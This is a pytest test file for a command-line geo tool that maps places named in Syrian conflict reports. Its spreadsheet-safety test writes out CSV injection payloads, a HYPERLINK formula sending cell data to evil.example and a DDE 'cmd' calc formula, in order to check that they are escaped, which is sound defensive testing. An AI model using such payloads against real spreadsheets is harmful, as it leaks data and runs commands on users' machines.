"""The commands join up and share their I/O rules.

`places` writes report_date and `join` uses it (`places r.txt -o p.gpkg && join p.gpkg` works);
`join --date D` gives every row one date; every command takes its output format from the suffix of
-o (--format overrides it, an unknown suffix is refused); every CSV is spreadsheet-safe unless
--raw-csv; --version answers on every command; a command first removes the temporary files of
killed runs; concurrent first runs build the gazetteer index once.
"""

from __future__ import annotations

import csv
import io as stdio
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import dead_pid

from geo_idlib import io
from geo_idlib.cli import cli
from geo_idlib.places import store
from scripts import input_matrix as matrix

REPORT = "IDLIB, Feb. 20, 2020 — Troops entered Saraqeb and shelled Sarmin.\n"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click") Troops entered Saraqeb.\n'


def run(*args, env=None):
    return CliRunner().invoke(cli, [str(a) for a in args], env=env)


@pytest.fixture
def report(tmp_path) -> Path:
    p = tmp_path / "report.txt"
    p.write_text(REPORT, encoding="utf-8")
    return p


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(stdio.StringIO(text)))


# --------------------------------------------------------------------------- places → join
@pytest.mark.parametrize("suffix", [".gpkg", ".csv", ".parquet", ".geojson"])
def test_places_output_joins_as_it_is_on_the_report_date(report, tmp_path, suffix):
    p = tmp_path / f"p{suffix}"
    assert run("places", report, "-o", p).exit_code == 0
    r = run("join", p, "--format", "csv")
    assert r.exit_code == 0, r.stderr
    got = {x["mention"]: (x["report_date"], x["actor"], x["valid_from"]) for x in rows(r.stdout)}
    # the embedded NW Syria timeline on 2020-02-20: Saraqeb and Sarmin taken by the government
    assert got["Saraqeb"] == ("2020-02-20", "government", "2020-02-17")
    assert got["Sarmin"] == ("2020-02-20", "government", "2020-02-17")
    assert got["IDLIB"] == ("2020-02-20", "opposition", "2020-02-17")


def test_join_date_gives_every_row_one_date(report, tmp_path):
    p = tmp_path / "p.gpkg"
    assert run("places", report, "-o", p).exit_code == 0
    r = run("join", p, "--date", "2019-12-20", "--format", "csv")
    assert r.exit_code == 0, r.stderr
    out = rows(r.stdout)
    assert {x["mention"]: x["actor"] for x in out}["Saraqeb"] == "opposition"  # before the offensive
    assert {x["valid_from"] for x in out} == {"2019-12-19"}
    assert {x["report_date"] for x in out} == {"2020-02-20"}  # the data is not rewritten
    assert not any("geo_idlib" in c for c in out[0])  # no helper column leaks
    r = run("join", p, "--date", "2020-02-31")
    assert r.exit_code == 2 and "--date: '2020-02-31' is not a date" in r.stderr


def test_places_date_sets_report_date_and_a_report_without_dateline_has_none(tmp_path):
    p = tmp_path / "r.txt"
    p.write_text("Troops entered Saraqeb.\n", encoding="utf-8")
    assert [x["report_date"] for x in rows(run("places", p, "--format", "csv").stdout)] == [""]
    assert [x["report_date"] for x in rows(run("places", p, "--format", "csv", "--date", "2020-02-08").stdout)] == [
        "2020-02-08"]


def test_join_without_dates_says_how_to_give_them(tmp_path):
    e = tmp_path / "e.csv"
    e.write_text("lat,lon\n35.86447,36.80591\n", encoding="utf-8")
    r = run("join", e)
    assert r.exit_code == 2 and len(r.stderr.strip().splitlines()) == 1
    assert "no column 'date' or 'report_date'" in r.stderr and "--date-column" in r.stderr and "--date " in r.stderr
    r = run("join", e, "--date", "2020-02-20")
    assert r.exit_code == 0 and rows(r.stdout)[0]["actor"] == "government"


# --------------------------------------------------------------------------- formats
MAGIC = {".gpkg": b"SQLite format 3\x00", ".parquet": b"PAR1", ".fgb": b"fgb\x03"}


def _check_format(path: Path, suffix: str) -> None:
    data = path.read_bytes()
    if suffix in MAGIC:
        assert data.startswith(MAGIC[suffix]), f"{path} is not {suffix}"
        back = io.read_vector(path)
        assert len(back) and back.crs.to_epsg() == 4326
    elif suffix in (".geojson", ".json"):
        doc = json.loads(data)
        assert doc["type"] == "FeatureCollection" if isinstance(doc, dict) else isinstance(doc, list)
    elif suffix == ".csv":
        assert len(rows(data.decode("utf-8"))) >= 1
    elif suffix == ".html":
        assert data.startswith(b"<!DOCTYPE html>")


def _commands(tmp: Path, report: Path) -> dict[str, tuple[list, tuple[str, ...]]]:
    """Command lines writing -o {out}, with the suffixes each command writes."""
    timeline = tmp / "timeline.geojson"
    timeline.write_bytes(matrix.TIMELINE)
    front = tmp / "front_20200101.geojson"
    front.write_bytes(matrix.PER_DATE)
    events = tmp / "events.csv"
    events.write_text("date,lat,lon\n2020-02-20,35.86447,36.80591\n", encoding="utf-8")
    layers = (".geojson", ".json", ".csv", ".gpkg", ".parquet", ".fgb")
    return {
        "places": (["places", report], (".geojson", ".json", ".csv", ".gpkg", ".parquet")),
        "geocode": (["geocode", "Saraqeb", "Idlib"], (".json", ".csv", ".geojson", ".gpkg", ".parquet")),
        "join": (["join", events], layers),
        "areas at": (["areas", "at", timeline, "--date", "2020-01-15"], layers),
        "areas build": (["areas", "build", front, "--actor", "russia"], layers),
        "change": (["change", "--areas", timeline, "--from", "2020-01-01", "--to", "2020-02-01"], layers),
        "map": (["map", report, "--date", "2020-02-20"], (".html",)),
    }


def test_every_command_writes_the_format_of_the_suffix_and_refuses_unknown_ones(tmp_path, report):
    for name, (argv, suffixes) in _commands(tmp_path, report).items():
        for suffix in suffixes:
            out = tmp_path / f"{name.replace(' ', '_')}{suffix}"
            r = run(*argv, "-o", out)
            assert r.exit_code == 0, f"{name} -o {out.name}: {r.stderr}"
            _check_format(out, suffix)
        bad = tmp_path / f"{name.replace(' ', '_')}.xml"
        r = run(*argv, "-o", bad)
        assert r.exit_code == 2 and "unknown output format '.xml'" in r.stderr and not bad.exists(), name
        assert len(r.stderr.strip().splitlines()) == 1


def test_format_overrides_the_suffix(tmp_path, report):
    out = tmp_path / "places.txt"
    assert run("places", report, "--format", "gpkg", "-o", out).exit_code == 0
    assert out.read_bytes().startswith(MAGIC[".gpkg"])
    out = tmp_path / "at.dat"
    timeline = tmp_path / "t.geojson"
    timeline.write_bytes(matrix.TIMELINE)
    assert run("areas", "at", timeline, "--date", "2020-01-15", "--format", "csv", "-o", out).exit_code == 0
    assert rows(out.read_text())[0]["actor"] == "government"
    r = run("places", report, "--format", "parquet")  # a binary format needs a file
    assert r.exit_code == 2 and "-o FILE.parquet" in r.stderr and r.stdout == ""


# --------------------------------------------------------------------------- spreadsheet-safe CSV
FORMULA = tuple(io.FORMULA_STARTS)


def _no_formula(text: str) -> None:
    for row in csv.reader(stdio.StringIO(text)):
        for cell in row:
            lead = cell.lstrip(" ")[:1]
            assert not lead or lead not in FORMULA or io.spreadsheet_safe(cell) == cell, cell


def test_every_csv_output_is_spreadsheet_safe_unless_raw(tmp_path):
    rep = tmp_path / "r.txt"
    rep.write_text(INJECTION, encoding="utf-8")
    events = tmp_path / "e.csv"
    events.write_text('date,lat,lon,note\n2020-02-20,35.86447,36.80591,"@SUM(A1:A9)"\n', encoding="utf-8")
    timeline = tmp_path / "t.geojson"
    timeline.write_bytes(matrix.TIMELINE.replace(b'"opposition"', b'"=cmd|\' /C calc\'!A0"'))
    outputs = {
        "places": ["places", rep, "--format", "csv"],
        "geocode": ["geocode", "+Saraqeb", "--format", "csv"],
        "join": ["join", events],
        "areas at": ["areas", "at", timeline, "--date", "2020-01-15", "--format", "csv"],
        "change": ["change", "--areas", timeline, "--from", "2020-01-01", "--to", "2020-02-01", "--format", "csv"],
    }
    needles = {"places": "'=HYPERLINK(", "geocode": "'+Saraqeb", "join": "'@SUM(A1:A9)", "areas at": "'=cmd|",
               "change": "'=cmd|"}
    for name, argv in outputs.items():
        safe, raw = run(*argv), run(*argv, "--raw-csv")
        assert safe.exit_code == 0 and raw.exit_code == 0, (name, safe.stderr, raw.stderr)
        _no_formula(safe.stdout)
        assert needles[name] in safe.stdout, name
        assert needles[name][1:] in raw.stdout and needles[name] not in raw.stdout, name
    # the file written with -o is the same text
    out = tmp_path / "p.csv"
    assert run("places", rep, "-o", out).exit_code == 0
    assert out.read_text(encoding="utf-8") == run(*outputs["places"]).stdout


# --------------------------------------------------------------------------- --version
def _all_commands(group, path=()):
    yield path
    for name, cmd in group.commands.items():
        if hasattr(cmd, "commands"):
            yield from _all_commands(cmd, (*path, name))
        else:
            yield (*path, name)


def test_version_on_every_command_and_subcommand():
    paths = list(_all_commands(cli))
    assert len(paths) >= 12
    for path in paths:
        r = run(*path, "--version")
        assert r.exit_code == 0 and r.stdout.startswith("geo-idlib, version "), (path, r.output)


def test_usage_errors_are_one_line():
    for argv in (["geocode"], ["nosuch"], ["change", "--from", "2020-01-01"], ["places", "x", "--format", "xml"]):
        r = run(*argv)
        assert r.exit_code == 2 and len(r.stderr.strip().splitlines()) == 1 and r.stderr.startswith("Error: "), argv


# --------------------------------------------------------------------------- temporary files
def test_a_command_first_removes_temporary_files_of_dead_runs(tmp_path, report):
    dead = dead_pid()
    out = tmp_path / "out"
    out.mkdir()
    folders = [out, io.cache_dir(), io.data_dir(), store.user_index_path().parent]
    stale = [f / f".x.geo_idlib-{dead}-0badcafe.tmp.sqlite" for f in folders]
    live = out / f".y.csv.geo_idlib-{os.getpid()}-0badcafe.tmp.csv"
    for f in [*stale, live]:
        f.parent.mkdir(parents=True, exist_ok=True)
        f.write_bytes(b"partial")
    assert run("places", report, "-o", out / "p.csv").exit_code == 0
    assert not any(f.exists() for f in stale) and live.exists()  # a running process keeps its own
    live.unlink()


def test_concurrent_first_runs_wait_for_the_one_building_the_index(tmp_path):
    """While another process holds the index lock, a first run waits and says so, then opens what
    that process built instead of building its own."""
    cache = tmp_path / "cache"
    cache.mkdir()
    built = store.index_path()  # the session's index (built or linked by conftest)
    env = dict(os.environ, GEO_IDLIB_CACHE=str(cache))
    exe = Path(sys.executable).with_name("geo-idlib")
    if not exe.exists():
        pytest.skip(f"{exe} not installed (pip install -e .)")
    err = tmp_path / "stderr.txt"
    with io.exclusive_lock(cache / store.index_lock_path().name, "held by the test"):
        with err.open("w") as fh:
            proc = subprocess.Popen([str(exe), "geocode", "Saraqeb", "--format", "csv"], env=env, text=True,
                                    stdout=subprocess.PIPE, stderr=fh)
        deadline = time.monotonic() + 60
        while "waiting for it to finish" not in err.read_text() and time.monotonic() < deadline:
            assert proc.poll() is None, err.read_text()
            time.sleep(0.1)
        assert "another geo-idlib process is building the gazetteer index" in err.read_text()
        (cache / built.name).symlink_to(built)  # what the other process built
    out, _ = proc.communicate(timeout=120)
    assert proc.returncode == 0, err.read_text()
    assert rows(out)[0]["place_id"] == "geonames:164816"
    assert "WARNING: building the gazetteer index" not in err.read_text()
    assert (cache / built.name).is_symlink()  # opened, not rebuilt
